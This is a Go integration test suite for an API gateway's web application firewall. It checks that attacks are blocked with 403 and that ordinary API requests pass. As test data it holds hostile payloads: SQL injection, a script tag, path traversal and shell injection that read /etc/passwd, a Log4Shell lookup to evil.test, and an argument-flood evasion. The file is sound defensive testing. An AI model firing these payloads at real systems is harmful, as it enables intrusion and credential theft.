package integration

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
)

var (
	asJSON = http.Header{"Content-Type": {"application/json"}}
	asForm = http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
)

const injection = "1' UNION SELECT password FROM users--"

// flood hides an attack behind more harmless arguments than Coraza keeps. With
// the settings that come beside the Core Rule Set it is answered 200.
func flood(n int, form bool) string {
	var b strings.Builder
	for i := range n {
		if form {
			fmt.Fprintf(&b, "k%d=value%d&", i, i)
		} else {
			fmt.Fprintf(&b, `"k%d":"value%d",`, i, i)
		}
	}
	if form {
		return b.String() + "q=" + url.QueryEscape(injection)
	}
	return "{" + b.String() + `"q":"` + injection + `"}`
}

func TestFirewallRefusesAttacks(t *testing.T) {
	b := newBackend(t, nil)
	gw := start(t, "", "api demo {\nfirewall\nreverse_proxy "+b.addr()+"\n}")
	for _, tc := range []struct {
		name, method, path string
		header             http.Header
		body, rule         string
	}{
		{"SQL in the query", "GET", "/?q=" + url.QueryEscape(injection), nil, "", "942"},
		{"SQL in a JSON member", "POST", "/", asJSON, `{"a":{"b":["` + injection + `"]}}`, "942"},
		{"SQL in JSON of a vendor's type", "POST", "/", http.Header{"Content-Type": {"application/vnd.x+json"}}, `{"a":"` + injection + `"}`, "942"},
		{"SQL in a form", "POST", "/", asForm, "q=" + url.QueryEscape(injection), "942"},
		{"SQL in a PATCH", "PATCH", "/", asJSON, `{"q":"` + injection + `"}`, "942"},
		{"a script in a header", "GET", "/", http.Header{"Referer": {"<script>alert(1)</script>"}}, "", "941"},
		{"a path that climbs", "GET", "/?file=../../../../etc/passwd", nil, "", "930"},
		{"a shell command", "GET", "/?x=" + url.QueryEscape("; cat /etc/passwd"), nil, "", "93"},
		{"Log4Shell", "GET", "/", http.Header{"X-Api-Version": {"${jndi:ldap://evil.test/a}"}}, "", "944"},
		{"a scanner", "GET", "/", http.Header{"User-Agent": {"sqlmap/1.0"}}, "", "913100"},
		{"SQL in a type nobody knows", "POST", "/", http.Header{"Content-Type": {"application/x-strange"}}, `{"q":"` + injection + `"}`, "920420"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := b.count()
			a := gw.do(t, tc.method, tc.path, tc.header, tc.body)
			if a.status != 403 || a.reason() != "firewall.attack" || b.count() != before {
				t.Fatalf("%d %s", a.status, a.body)
			}
			d := gw.decisions(t)
			last := fmt.Sprint(d[len(d)-1])
			if !strings.Contains(last, "rule:"+tc.rule) && !strings.Contains(last, ","+tc.rule) {
				t.Errorf("rule %s is not in the decision: %s", tc.rule, last)
			}
			if strings.Contains(last, "password") || strings.Contains(last, "evil.test") {
				t.Errorf("the decision repeats what was sent: %s", last)
			}
			if strings.Contains(a.body, tc.rule) {
				t.Errorf("the client is told the rules: %s", a.body)
			}
		})
	}
}

func TestFirewallLetsAPIsWork(t *testing.T) {
	b := newBackend(t, nil)
	for _, paranoia := range []int{1, 2} {
		gw := start(t, "", fmt.Sprintf("api demo {\nfirewall {\nparanoia %d\n}\nreverse_proxy %s\n}", paranoia, b.addr()))
		for _, tc := range []struct {
			method, path string
			header       http.Header
			body         string
		}{
			{"GET", "/orders?page=2&limit=50&sort=createdAt&q=desk+lamp", nil, ""},
			{"POST", "/orders", asJSON, `{"customer":"Ann O'Neil","items":[{"sku":"SKU-1","quantity":2}],"note":"leave it at the door"}`},
			{"PUT", "/orders/1", asJSON, `{"webhook":"https://hooks.example.com/a?b=c"}`},
			{"PATCH", "/orders/1", http.Header{"Content-Type": {"application/merge-patch+json"}}, `{"status":"paid"}`},
			{"DELETE", "/orders/1", nil, ""},
			{"POST", "/form", asForm, "name=Ann&city=Berlin"},
			{"PUT", "/image", http.Header{"Content-Type": {"image/png"}}, "\x89PNG\r\n' UNION SELECT"},
			{"POST", "/empty", asJSON, `{}`},
		} {
			if a := gw.do(t, tc.method, tc.path, tc.header, tc.body); a.status != 200 {
				t.Errorf("paranoia %d: %s %s: %d %s\n%v", paranoia, tc.method, tc.path, a.status, a.body, gw.decisions(t))
			}
			if _, body := b.got(); body != tc.body {
				t.Errorf("%s: the backend got %q", tc.path, body)
			}
		}
	}
}

// TestFirewallArgumentFlood: attacks do not hide in a crowd (Coraza's argument
// limit, rules 200004 and 200005 of its recommended configuration).
func TestFirewallArgumentFlood(t *testing.T) {
	b := newBackend(t, nil)
	gw := start(t, "", "api demo {\nfirewall\nreverse_proxy "+b.addr()+"\n}")
	for _, n := range []int{990, 1100} {
		want := map[int]string{990: "firewall.attack", 1100: "firewall.argument_limit"}[n]
		if a := gw.do(t, "POST", "/", asJSON, flood(n, false)); a.reason() != want {
			t.Errorf("%d JSON members: %d %s, want %s", n, a.status, a.body, want)
		}
		if a := gw.do(t, "POST", "/", asForm, flood(n, true)); a.reason() != want {
			t.Errorf("%d form fields: %d %s, want %s", n, a.status, a.body, want)
		}
	}
	if b.count() != 0 {
		t.Error("the backend was reached")
	}
}

func TestFirewallAndBodiesItCannotRead(t *testing.T) {
	b := newBackend(t, nil)
	gw := start(t, "", "api demo {\nfirewall {\nmax_body 1KiB\n}\nreverse_proxy "+b.addr()+"\n}")
	var zipped bytes.Buffer
	z := gzip.NewWriter(&zipped)
	fmt.Fprintf(z, `{"q":"%s"}`, injection)
	z.Close()
	for _, tc := range []struct {
		name   string
		header http.Header
		body   string
		status int
		reason string
	}{
		{"compressed", with(asJSON, "Content-Encoding", "gzip"), zipped.String(), 400, "firewall.body_unreadable"},
		{"too large", asJSON, `{"a":"` + strings.Repeat("x", 2000) + `"}`, 413, "firewall.body_too_large"},
		{"malformed", asJSON, `{"a":`, 400, "firewall.body_unreadable"},
		{"large, but of a type that is not read", http.Header{"Content-Type": {"image/png"}}, "\x89PNG" + strings.Repeat("x", 2000), 200, ""},
		{"large, and text for all its type", http.Header{"Content-Type": {"image/png"}}, strings.Repeat("x", 2000), 413, "firewall.body_too_large"},
	} {
		if a := gw.do(t, "POST", "/", tc.header, tc.body); a.status != tc.status || a.reason() != tc.reason {
			t.Errorf("%s: %d %s", tc.name, a.status, a.body)
		}
	}
	if err := gw.load("", "api demo {\nfirewall {\nmax_body 1KiB\noversize pass\n}\nreverse_proxy "+b.addr()+"\n}"); err != nil {
		t.Fatal(err)
	}
	large := `{"a":"` + strings.Repeat("x", 2000) + `"}`
	if a := gw.do(t, "POST", "/", asJSON, large); a.status != 200 {
		t.Errorf("oversize pass: %d %s", a.status, a.body)
	}
	if _, body := b.got(); body != large {
		t.Errorf("the backend got %d bytes", len(body))
	}
	if a := gw.do(t, "POST", "/?q="+url.QueryEscape(injection), asJSON, large); a.status != 403 {
		t.Errorf("oversize pass, attack in the query: %d", a.status)
	}
}

func TestFirewallModesAndRules(t *testing.T) {
	b := newBackend(t, nil)
	gw := prepare(t)
	gw.write(t, "mine.conf", `SecRule REQUEST_URI "@contains forbidden" "id:1001,phase:1,deny,status:403,log,msg:'Not this'"`)
	site := func(options string) string {
		return "api demo {\nfirewall {\n" + options + "\n}\nreverse_proxy " + b.addr() + "\n}"
	}
	load := func(options string) {
		t.Helper()
		if err := gw.load("", site(options)); err != nil {
			t.Fatal(err)
		}
	}
	attack := "/?q=" + url.QueryEscape(injection)

	load("mode shadow")
	if a := gw.get(t, attack, nil); a.status != 200 {
		t.Errorf("shadow: %d", a.status)
	}
	if d := fmt.Sprint(gw.decisions(t)); !strings.Contains(d, "would_deny") || !strings.Contains(d, "firewall.attack") || !strings.Contains(d, "942") {
		t.Errorf("shadow recorded %s", d)
	}
	load("mode off")
	if a := gw.get(t, attack, nil); a.status != 200 {
		t.Errorf("off: %d", a.status)
	}
	load("rules mine.conf")
	if a := gw.get(t, "/forbidden", nil); a.status != 403 {
		t.Errorf("a rule of our own: %d", a.status)
	}
	gw.write(t, "mine.conf", `SecRule REQUEST_URI "@contains other" "id:1001,phase:1,deny,status:403,log,msg:'Not this'"`)
	load("rules mine.conf")
	if a := gw.get(t, "/forbidden", nil); a.status != 200 {
		t.Errorf("the rule was edited away, and still: %d", a.status)
	}
	if a := gw.get(t, "/other", nil); a.status != 403 {
		t.Errorf("the edited rule: %d", a.status)
	}

	gw.write(t, "mine.conf", "# a comment\nSecRule REQUEST_URI \"@contains x\" \\\n    \"id:1001,phase:1,deny\"\nSecRool ARGS \"@rx x\" \"id:1002\"\n")
	err := gw.load("", site("rules mine.conf"))
	if err == nil || !strings.Contains(err.Error(), "mine.conf:4:") {
		t.Errorf("a broken rule: %v", err)
	}
	if a := gw.get(t, "/other", nil); a.status != 403 {
		t.Errorf("after a refused reload the old rules are gone: %d", a.status)
	}
	if err := gw.load("", site("rules missing.conf")); err == nil || !os.IsNotExist(err) && !strings.Contains(err.Error(), "missing.conf") {
		t.Errorf("a missing file: %v", err)
	}
	load("exclude 942100 942190 942270 942360 942130 942150 942200 942260 942370 942480 942430")
	if a := gw.get(t, attack, nil); a.status != 200 {
		t.Logf("%v", gw.decisions(t))
		t.Errorf("excluded rules still refuse: %d", a.status)
	}
}

// TestFirewallPath: what somebody has put into a path is looked at like what is in
// a query, whether a contract says where that is or not.
func TestFirewallPath(t *testing.T) {
	b := newBackend(t, nil)
	gw := prepare(t)
	gw.write(t, "api.yaml", `openapi: 3.1.0
info: {title: t, version: "1"}
paths: {"/books/{title}": {get: {operationId: book, responses: {}}}}
`)
	for _, contract := range []string{"", "contract api.yaml\n"} {
		if err := gw.load("", "guard\napi demo {\n"+contract+"firewall\nreverse_proxy "+b.addr()+"\n}"); err != nil {
			t.Fatal(err)
		}
		for path, want := range map[string]int{
			"/books/1'%20UNION%20SELECT%20password%20FROM%20users--": 403,
			"/books/%3Cscript%3Ealert(1)%3Cscript%3E":                403,
			"/books/Don't%20Panic%20(1979)":                          200,
			"/books/ord_1":                                           200,
			"/books/Sense%20%26%20Sensibility":                       200,
		} {
			if a := gw.get(t, path, nil); a.status != want || want == 403 && a.reason() != "firewall.attack" {
				t.Errorf("%q %s: %d %s", contract, path, a.status, a.body)
			}
		}
	}
}
